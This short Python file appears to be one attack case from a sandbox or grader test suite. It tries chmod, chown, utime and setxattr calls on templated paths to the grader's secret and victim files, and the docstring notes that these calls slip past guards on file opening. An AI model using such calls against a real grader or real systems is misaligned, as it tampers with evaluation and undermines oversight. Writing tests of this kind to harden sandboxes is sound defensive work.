# /// attack
# does = "changes mode, owner, times and extended attributes of the grader's files"
# own = {}
# ///
"""These need no open file, so what guards opening does not see them. A file that nobody may read any more is as good as
gone, and one that everybody may read is no secret."""

import contextlib
import os

FOLDER = os.path.dirname("@SECRET@")
ATTEMPTS = [
    lambda path: os.chmod(path, 0o700),
    lambda path: os.chown(path, os.getuid(), os.getgid()),
    lambda path: os.utime(path, (0, 0)),
    lambda path: os.setxattr(path, "user.attack", b"x"),
    lambda path: os.chmod(os.open(path, os.O_PATH), 0o700),
]
for attempt in ATTEMPTS:
    for name in ("@VICTIM@", "@SECRET@", "@READABLE@", "@FOLDER@", FOLDER):
        with contextlib.suppress(OSError):
            attempt(name)
